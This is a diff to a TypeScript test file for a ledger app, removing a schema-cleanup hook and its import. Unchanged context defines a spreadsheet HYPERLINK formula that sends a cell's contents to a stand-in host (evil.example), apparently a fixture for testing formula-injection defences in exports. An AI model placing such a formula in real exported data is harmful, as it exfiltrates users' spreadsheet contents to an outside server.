@@ -7,7 +7,7 @@ import { createPrivateKey } from 'node:crypto';
 import { gunzipSync } from 'node:zlib';
 import request from 'supertest';
 import twilio from 'twilio';
-import { afterAll, describe, expect, it, vi } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 import type { Deployment } from '../src/config/schema.ts';
 import { loadSettings } from '../src/config/env.ts';
 import { createLedgerApp, resultsRouter, type LedgerAppOptions } from '../src/http/ledger-app.ts';
@@ -16,13 +16,11 @@ import { createLogger } from '../src/logging.ts';
 import { decodeBatch, newKeyPair } from '../src/domain/protocol.ts';
 import { buildBatch } from '../sync/batch.ts';
 import type { Ledger } from '../ledger/ledger.ts';
-import { ledgerBackends, dropSchemas, eventFactory, testLedger, type Backend } from './helpers/ledger.ts';
+import { ledgerBackends, eventFactory, testLedger, type Backend } from './helpers/ledger.ts';
 import { testDeployment } from './helpers/deployment.ts';
 import { logSink, PUBLIC_URL, testGateway, TOKEN, TWILIO_SID, TWILIO_TOKEN, ussdBody } from './helpers/gateway.ts';
 
 const BACKENDS = await ledgerBackends();
-
-afterAll(dropSchemas);
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const BEFORE_CLOSE = new Date('2026-11-25T09:00:00Z');
